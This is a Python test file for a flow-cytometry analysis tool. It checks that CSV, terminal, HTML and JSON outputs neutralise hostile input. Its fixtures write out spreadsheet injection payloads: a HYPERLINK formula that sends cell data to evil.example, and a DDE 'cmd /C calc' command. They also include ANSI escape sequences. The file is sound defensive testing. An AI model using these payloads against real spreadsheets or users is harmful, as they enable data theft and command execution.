"""What hladr writes and prints (issue 12, items 2, 3, 7, 9, 10).

- results.csv: no text cell a spreadsheet evaluates as a formula (OWASP), no control characters;
- the terminal and report.html: no control characters or ANSI escape codes from input;
- every JSON file: strict (a JavaScript ``JSON.parse`` reads it: no NaN, no Infinity);
- a CJK sample id: no font warnings, readable in the HTML;
- a tube without FSC-H/FSC-W (no doublet exclusion): flag ``no_singlet_channel``, qc warn.
"""

from __future__ import annotations

import csv
import json
import shutil
import warnings

import pytest
from robust_helpers import CLEAN_WORKLIST, WORKLIST_HEADER, result_rows, rewrite_tube, run_cli, strict_json

from hladr.safe_text import csv_cell, dumps_strict, printable

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CJK_ID = "患者-001"
ANSI = "\x1b[31m\x1b]0;pwned\x07"
HUGE_FERRITIN = "9" * 400


@pytest.fixture(scope="module")
def hostile_run(sim_run, tmp_path_factory):
    """The simulated run with formula, ANSI and CJK cells, a 400-digit ferritin and odd extra columns."""
    d = tmp_path_factory.mktemp("hostile")
    rows = [r.split(",") for r in CLEAN_WORKLIST]
    rows[1][2:6] = [HOSTILE_ID, "+1-2", "-5", HUGE_FERRITIN]
    rows[2][2:4] = [CJK_ID + ANSI, "@SUM(A1)"]
    extra = [["", ""], ["=cmd|' /C calc'!A0", "-3"], ["\u202eevil", "ok"], ["", ""]]
    wl = d / "wl.csv"
    with open(wl, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(WORKLIST_HEADER.split(",") + ["note", "=bad"])
        for r, e in zip(rows, extra, strict=True):
            w.writerow(r + e)
    out = d / "out"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        rc, stdout, err = run_cli(["run", str(sim_run), "--out", str(out), "--worklist", str(wl)])
    return rc, stdout, err, out, [str(c.message) for c in caught]


def test_formula_cells_are_neutralised_in_results_csv(hostile_run, clean_rows):
    rc, _, err, out, _ = hostile_run
    assert rc == 0, err
    rows = result_rows(out)
    p1, p2 = rows["P001_HLADR.fcs"], rows["P002_HLADR.fcs"]
    assert p1["sample_id"] == "'" + HOSTILE_ID
    assert (p1["subject_id"], p1["visit"], p1["note"]) == ("'+1-2", "'-5", "'=cmd|' /C calc'!A0")
    assert p2["subject_id"] == "'@SUM(A1)" and p2["'=bad"] == "ok"  # a column name is a cell too
    assert p2["sample_id"].startswith(CJK_ID) and "\x1b" not in p2["sample_id"]
    assert float(p1["hladr_abc"]) > 0 and float(p2["hladr_abc"]) > 0  # hladr's numbers stay plain numbers
    header = (out / "results.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
    assert [h for h in header if h[:1] in "=+-@"] == []
    p3 = rows["P003_HLADR.fcs"]
    assert {k: p3[k] for k in clean_rows["P003_HLADR.fcs"]} == clean_rows["P003_HLADR.fcs"]


def test_results_json_keeps_the_exact_text_and_is_strict(hostile_run):
    rc, _, _, out, _ = hostile_run
    doc = strict_json(out / "results.json")
    strict_json(out / "calibration.json")
    s1, s2 = doc["samples"][0], doc["samples"][1]
    assert s1["sample_id"] == HOSTILE_ID and s2["sample_id"] == CJK_ID + ANSI  # the data, unchanged
    assert s1["extra"] == {"note": "=cmd|' /C calc'!A0", "=bad": "-3"}


def test_an_absurd_ferritin_is_invalid_not_infinite(hostile_run):
    rc, _, _, out, _ = hostile_run
    p1 = result_rows(out)["P001_HLADR.fcs"]
    assert p1["ferritin_ng_ml"] == "" and "ferritin_unusable" in p1["flags"] and p1["phenotype"] != "MALS"
    s1 = strict_json(out / "results.json")["samples"][0]
    assert s1["ferritin_ng_ml"] is None
    assert any("not a serum value" in f["message"] for f in s1["flags"])


def test_nothing_printed_or_reported_carries_control_characters(hostile_run):
    rc, stdout, err, out, _ = hostile_run
    report = (out / "report.html").read_text(encoding="utf-8")
    for text in (stdout, err, report, (out / "results.csv").read_text(encoding="utf-8")):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert CJK_ID in stdout and CJK_ID in report  # readable in the table and the HTML text


def test_a_cjk_sample_id_gives_no_font_warnings(hostile_run):
    *_, caught = hostile_run
    assert [m for m in caught if "Glyph" in m or "font" in m] == []


@pytest.fixture(scope="module")
def no_worklist_run(sim_run, tmp_path_factory):
    """No worklist: P001's $SMNO is a formula with an ANSI code; P002 has no FSC-H (no singlet gate)."""
    d = tmp_path_factory.mktemp("smno") / "run"
    d.mkdir()
    shutil.copy(sim_run / "beads.fcs", d)
    shutil.copy(sim_run / "P003_HLADR.fcs", d)
    rewrite_tube(sim_run / "P001_HLADR.fcs", d / "P001_HLADR.fcs", keywords={"$SMNO": "-2+3" + ANSI})
    rewrite_tube(sim_run / "P002_HLADR.fcs", d / "P002_HLADR.fcs", drop=("FSC-H",))
    out = d.parent / "out"
    rc, stdout, err = run_cli(["run", str(d), "--out", str(out)])
    return rc, stdout, err, out, d


def test_smno_is_neutralised_and_not_printed_raw(no_worklist_run):
    rc, stdout, err, out, _ = no_worklist_run
    assert rc in (0, 1), err
    p1 = result_rows(out)["P001_HLADR.fcs"]
    assert p1["sample_id"].startswith("'-2+3") and "\x1b" not in p1["sample_id"]
    for text in (stdout, err, (out / "report.html").read_text(encoding="utf-8")):
        assert "\x1b" not in text and "\x07" not in text
    assert strict_json(out / "results.json")["samples"][0]["sample_id"] == "-2+3" + ANSI


def test_a_tube_without_singlet_gate_is_flagged_and_its_json_strict(no_worklist_run):
    rc, _, err, out, _ = no_worklist_run
    p2 = result_rows(out)["P002_HLADR.fcs"]
    assert "no_singlet_channel" in p2["flags"].split(";") and p2["qc"] in ("warn", "fail")
    doc = strict_json(out / "results.json")  # the unbounded singlet range was -Infinity/Infinity
    s2 = next(s for s in doc["samples"] if s["file"] == "P002_HLADR.fcs")
    # (a gate without doublet exclusion may also fail its self-check: its record then has no ranges)
    assert s2["gate"].get("singlet_range") is None and s2["gate"].get("singlet_channel") is None
    assert "non_finite_as_null" not in doc


def test_inspect_prints_no_control_characters(no_worklist_run):
    *_, run = no_worklist_run
    rc, stdout, err = run_cli(["inspect", str(run / "P001_HLADR.fcs")])
    assert rc == 0 and "\x1b" not in stdout + err


@pytest.fixture(scope="module")
def big_tube(tmp_path_factory):
    """One tube with > 3000 monocytes (qc pass), its calibration, and the same tube without FSC-H."""
    from hladr.beads.lots import find_lot
    from hladr.beads.record import calibrate_beads
    from hladr.simulate.simulator import simulate_run

    d = tmp_path_factory.mktemp("big")
    simulate_run(d, seed=5, n_samples=1, events_per_tube=120_000)
    cal = calibrate_beads(str(d / "beads.fcs"), find_lot("96597"))
    return d / "P001_HLADR.fcs", rewrite_tube(d / "P001_HLADR.fcs", d / "nofsch.fcs", drop=("FSC-H",)), cal


def test_no_doublet_exclusion_turns_a_pass_into_a_warn(big_tube):
    from hladr.pipeline import analyze_sample
    from hladr.results import SampleInput

    tube, no_fsch, cal = big_tube
    clean = analyze_sample(SampleInput(str(tube)), cal)
    assert clean.qc == "pass" and clean.monocyte_count >= 3000
    r = analyze_sample(SampleInput(str(no_fsch)), cal)
    flags = {f.code: f for f in r.flags}
    assert r.qc == "warn" and flags["no_singlet_channel"].severity == "warn"
    assert "doublets not excluded" in flags["no_singlet_channel"].message
    dumps_strict(r.to_dict())  # would raise on an infinite range left in the gate record
    json.loads(dumps_strict(r.to_dict()), parse_constant=lambda c: pytest.fail(c))


# --------------------------------------------------------------------------- the helpers themselves
@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-5", "'-5"), ("@A1", "'@A1"), ("\t=1", "'?=1"), ("\r=1", "'?=1"),
        (" =1", "' =1"), ("\uff1d1", "'\uff1d1"), ("P001", "P001"), ("1-2", "1-2"), ("", ""),
        ("a\x1b[31mb", "a?[31mb"), ("x\u200by", "x?y"), (CJK_ID, CJK_ID),
    ],
)
def test_csv_cell(cell, shown):
    assert csv_cell(cell) == shown


def test_printable_and_dumps_strict():
    assert printable("P\x1b[2J\x00\u202e\r\n1") == "P?[2J????1"
    nulled: list[str] = []
    text = dumps_strict({"a": [1.0, float("-inf")], "b": {"c": float("nan")}}, nulled=nulled)
    assert json.loads(text) == {"a": [1.0, None], "b": {"c": None}} and nulled == ["$.a[1]", "$.b.c"]
    import numpy as np

    assert json.loads(dumps_strict({"x": np.array([np.inf, 2.0]), "y": np.float32("nan")})) == {
        "x": [None, 2.0], "y": None}


def test_results_json_lists_where_a_number_was_not_finite(tmp_path):
    import datetime as dt

    from hladr.batch.daily import write_outputs
    from hladr.beads.calibrate import BeadCurve
    from hladr.beads.lots import Lot
    from hladr.beads.record import AcquisitionSettings, Calibration
    from hladr.results import SampleResult

    r = SampleResult(sample_id="S", subject_id="", visit="", file="f.fcs", sha256=None, qc="fail",
                     phenotype="indeterminate", phenotype_reasons=(), rcv_pct=float("inf"))
    curve = BeadCurve(slope=float("nan"), intercept=0.0, r2=0.0, levels=(), accepted=False, flags=(), reasons=(),
                      pe_channel="PE-A", singlets=0, events=0)
    cal = Calibration(curve=curve, lot=Lot("X", "BD QuantiBRITE PE", (1.0, 2.0, 3.0, 4.0)),
                      settings=AcquisitionSettings(None, None, None, None, None, None, None), inputs=())
    write_outputs(tmp_path, [r], cal, notes=[],
                  started=dt.datetime.now(dt.UTC), run_dir=str(tmp_path))
    doc = strict_json(tmp_path / "results.json")
    assert doc["samples"][0]["rcv_pct"] is None and doc["non_finite_as_null"] == [
        "$.calibration.fit.slope", "$.samples[0].rcv_pct"]
    assert strict_json(tmp_path / "calibration.json")["fit"]["slope"] is None


def test_format_table_strips_control_characters():
    from hladr.batch.daily import format_table
    from hladr.results import SampleResult

    r = SampleResult(sample_id="P\x1b[31m1\n2", subject_id="", visit="", file="f.fcs", sha256=None, qc="pass",
                     phenotype="intermediate", phenotype_reasons=(), ferritin_text="1\x1b]0;x\x07")
    table = format_table([r])
    assert "\x1b" not in table and "\x07" not in table and len(table.splitlines()) == 3
